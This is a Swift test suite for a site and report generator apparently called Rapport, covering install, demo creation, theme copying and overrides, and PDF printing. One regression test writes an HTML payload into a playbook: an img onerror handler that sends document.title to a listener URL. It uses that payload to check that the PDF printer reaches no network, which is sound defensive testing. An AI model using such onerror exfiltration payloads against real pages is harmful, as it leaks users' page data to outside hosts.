import Foundation
import Rapport
import RapportCore
import RapportTestSupport
import Testing

/// The `rapport` binary is the whole install (docs/guide.md#install): the
/// default theme and the demo site travel inside it.
@Suite(.serialized) struct InstallTests {
    /// The binary under test: the release build when script/test made one
    /// (`RAPPORT_RELEASE_BINARY`), else the debug build beside the tests.
    static var binary: String {
        ProcessInfo.processInfo.environment["RAPPORT_RELEASE_BINARY"].flatMap { $0.isEmpty ? nil : $0 } ?? Binary.path
    }

    /// Copies the binary alone into an empty folder; returns that copy.
    static func installAlone(in root: String) throws -> String {
        try FileManager.default.createDirectory(atPath: root + "/bin", withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: binary, toPath: root + "/bin/rapport")
        return root + "/bin/rapport"
    }

    @Test func aBinaryCopiedAloneCreatesAndBuildsTheDemoFromAnyFolder() throws {
        let root = Fixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: root) }
        let rapport = try Self.installAlone(in: root)
        let work = root + "/work"
        try FileManager.default.createDirectory(atPath: work, withIntermediateDirectories: true)
        // No RAPPORT_HOME, no checkout above either folder, nothing but PATH.
        let environment = ["PATH": "/usr/bin:/bin"]
        let new = try Binary.run(["new", "s"], in: work, environment: environment, bare: true, binary: rapport)
        #expect(new.status == 0, "\(new.stderr)")
        let build = try Binary.run(
            ["build", "--site", "s"], in: work, environment: environment, bare: true, binary: rapport)
        #expect(build.status == 0, "\(build.stderr)")
        #expect(build.stdout.hasSuffix("into output: 0 errors, 0 warnings\n"), "\(build.stdout)")
        // Every account of the demo has its brief, and the theme's assets came along.
        let ids = Fixtures.read(work + "/s/data/accounts.csv").split(separator: "\n").dropFirst().map {
            String($0.prefix { $0 != "," })
        }
        #expect(ids.count == 64)
        for (id, slug) in Slug.assign(ids) {
            #expect(FileManager.default.fileExists(atPath: work + "/output/accounts/\(slug).html"), "\(id)")
        }
        let shipped = Fixtures.packageRoot + "/themes/default/assets/style.css"
        #expect(
            FileManager.default.contents(atPath: work + "/output/assets/style.css")
                == FileManager.default.contents(atPath: shipped))
        let sample = try Binary.run(
            ["sample", "--accounts", "30", "--seed", "4", "x"], in: work, environment: environment, bare: true,
            binary: rapport)
        #expect(sample.status == 0, "\(sample.stderr)")
        #expect(FileManager.default.fileExists(atPath: work + "/x/playbooks/rescue-slipping-account.md"))
        let check = try Binary.run(
            ["check", "--site", "x"], in: work, environment: environment, bare: true, binary: rapport)
        #expect(check.status == 0, "\(check.stderr)")
    }

    @Test func newWritesTheDemoSiteByteForByte() throws {
        let root = Fixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: root) }
        let run = try Binary.run(["new", root + "/mysite"])
        #expect(run.status == 0, "\(run.stderr)")
        let demo = Fixtures.snapshot(Fixtures.packageRoot + "/content")
        let copy = Fixtures.snapshot(root + "/mysite")
        #expect(!demo.isEmpty)
        #expect(copy == demo)
    }

    @Test func themeCopyWritesTheBuiltInThemeByteForByte() throws {
        let root = Fixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: root) }
        let run = try Binary.run(["theme", "copy", root + "/mytheme"])
        #expect(run.status == 0, "\(run.stderr)")
        let shipped = Fixtures.snapshot(Fixtures.packageRoot + "/themes/default")
        #expect(shipped.keys.contains("templates/base.mustache"))
        #expect(Fixtures.snapshot(root + "/mytheme") == shipped)
        let again = try Binary.run(["theme", "copy", root + "/mytheme"])
        #expect(again.status == 2)
        #expect(again.stderr.contains("exists and is not empty"))
        let unknown = try Binary.run(["theme", "copy", "--name", "fancy", root + "/other"])
        #expect(unknown.status == 2)
        #expect(unknown.stderr.contains("no built-in theme 'fancy' (built in: default)"))
    }

    @Test func versionIsPrinted() throws {
        let run = try Binary.run(["--version"])
        #expect(run.status == 0)
        #expect(run.stdout == RapportVersion.current + "\n")
    }

    /// A site's own theme folder, named in site.yaml relative to the site,
    /// wins over the built-in theme, and the site's templates/ win over both.
    @Test func aSiteThemeFolderAndOverridesWinOverTheBuiltInTheme() throws {
        let site = Fixtures.copy("basic-site")
        let root = (site as NSString).deletingLastPathComponent
        defer { try? FileManager.default.removeItem(atPath: root) }
        #expect(try Binary.run(["theme", "copy", site + "/looks/plain"]).status == 0)
        let base = site + "/looks/plain/templates/base.mustache"
        Fixtures.write(
            Fixtures.read(base).replacingOccurrences(of: "</body>", with: "<!-- plain theme --></body>"), to: base)
        let yaml = site + "/site.yaml"
        Fixtures.write(Fixtures.read(yaml) + "theme: looks/plain\n", to: yaml)
        // Run from elsewhere: the folder is found relative to the site, not the current folder.
        let built = try Binary.run(["build", "--site", site, "--output", root + "/out"], in: "/")
        #expect(built.status == 0, "\(built.stderr)")
        #expect(Fixtures.read(root + "/out/index.html").contains("<!-- plain theme -->"))
        Fixtures.write(
            Fixtures.read(base).replacingOccurrences(of: "</body>", with: "<!-- site override --></body>"),
            to: site + "/templates/base.mustache")
        #expect(try Binary.run(["build", "--site", site, "--output", root + "/out"], in: "/").status == 0)
        #expect(Fixtures.read(root + "/out/index.html").contains("<!-- site override -->"))
    }

    @Test func anUnknownThemeIsAnErrorAtItsLineInSiteYAML() throws {
        let site = Fixtures.copy("basic-site")
        let root = (site as NSString).deletingLastPathComponent
        defer { try? FileManager.default.removeItem(atPath: root) }
        let yaml = site + "/site.yaml"
        let lines = Fixtures.read(yaml).split(separator: "\n", omittingEmptySubsequences: false).count
        Fixtures.write(Fixtures.read(yaml) + "theme: fancy\n", to: yaml)
        let run = try Binary.run(["check", "--site", site, "--quiet"])
        #expect(run.status == 1)
        #expect(
            run.stderr.contains(
                "\(yaml):\(lines):8: error: theme 'fancy' not found: no folder \(site)/themes/fancy "
                    + "and no built-in theme of that name (built in: 'default') [render]"), "\(run.stderr)")
    }

    /// A printer that fails is a failed build: nothing of it reaches the
    /// output, which stays byte for byte as the previous build left it.
    @Test func aFailingPDFPrinterLeavesThePreviousOutputUntouched() throws {
        let site = Fixtures.copy("basic-site")
        let root = (site as NSString).deletingLastPathComponent
        defer { try? FileManager.default.removeItem(atPath: root) }
        #expect(try Binary.run(["build", "--site", site, "--output", root + "/out"]).status == 0)
        let before = Fixtures.snapshot(root + "/out")
        let printer = root + "/broken-chromium"
        Fixtures.write("#!/bin/sh\necho 'no display, cannot print' >&2\nexit 3\n", to: printer)
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: printer)
        let run = try Binary.run(
            ["build", "--site", site, "--output", root + "/out", "--pdf", "--as-of", "2026-06-01"],
            environment: ["RAPPORT_CHROMIUM": printer])
        #expect(run.status == 1)
        #expect(run.stderr.contains("broken-chromium failed to print reps/"))
        #expect(run.stderr.contains("(exit 3): no display, cannot print [write]"))
        #expect(run.stderr.contains("build failed: 1 error, "))
        #expect(run.stderr.hasSuffix("; \(root)/out left unchanged\n"))
        #expect(Fixtures.snapshot(root + "/out") == before)
        let leftovers = try FileManager.default.contentsOfDirectory(atPath: root).filter {
            $0.hasPrefix(".out") && $0 != ".out.rapport-lock"
        }
        #expect(leftovers.isEmpty, "\(leftovers)")
    }

    /// Issue 14, point 5: the printer fetched a playbook's remote image and
    /// ran an `onerror` that sent page data out. Printed with the real
    /// Chromium (installed by the test command), a packet holding both makes
    /// no connection to a listener on loopback, while the same page printed
    /// by Chromium without Rapport's switches does connect (the control).
    @Test func thePDFPrinterReachesNoNetwork() throws {
        guard let chromium = PacketPDF.locateBrowser() else {
            Issue.record("no Chromium: the test command installs it (script/bootstrap-portal)")
            return
        }
        let listener = try LoopbackListener()
        let site = Fixtures.copy("basic-site")
        let root = (site as NSString).deletingLastPathComponent
        defer { try? FileManager.default.removeItem(atPath: root) }
        let remote = "http://127.0.0.1:\(listener.port)"
        Fixtures.write(
            Fixtures.read(site + "/site.yaml") + "markdown:\n  raw_html: true\n", to: site + "/site.yaml")
        Fixtures.write(
            "---\ntitle: Everyone\nwhen: true\n---\n![chart](\(remote)/chart.png)\n\n"
                + "<img src=\"\(remote)/x.png\" onerror=\"new Image().src='\(remote)/leak?'+document.title\">\n",
            to: site + "/playbooks/everyone.md")
        let run = try Binary.run(
            ["build", "--site", site, "--output", root + "/out", "--pdf", "--as-of", "2026-06-01"])
        #expect(run.status == 0, "\(run.stderr)")
        let pdfs = (FileManager.default.enumerator(atPath: root + "/out")?.allObjects as? [String] ?? [])
            .filter { $0.hasSuffix(".pdf") }
        #expect(!pdfs.isEmpty)
        let packet = root + "/out/" + pdfs.sorted()[0].dropLast(4) + ".html"
        #expect(Fixtures.read(packet).contains("\(remote)/chart.png"), "the payload must reach the packet")
        #expect(!Fixtures.read(packet).contains("onerror"))
        #expect(listener.connections == 0, "the printer connected \(listener.connections) times")
        // The control: Chromium left to itself fetches the image.
        let control = Process()
        control.executableURL = URL(fileURLWithPath: chromium)
        control.arguments = [
            "--headless", "--no-sandbox", "--disable-gpu", "--user-data-dir=\(root)/profile",
            "--print-to-pdf=\(root)/control.pdf", URL(fileURLWithPath: packet).absoluteString,
        ]
        control.standardOutput = FileHandle.nullDevice
        control.standardError = FileHandle.nullDevice
        try control.run()
        control.waitUntilExit()
        listener.stop()
        #expect(listener.connections >= 1, "the control print never connected: the test proves nothing")
    }
}
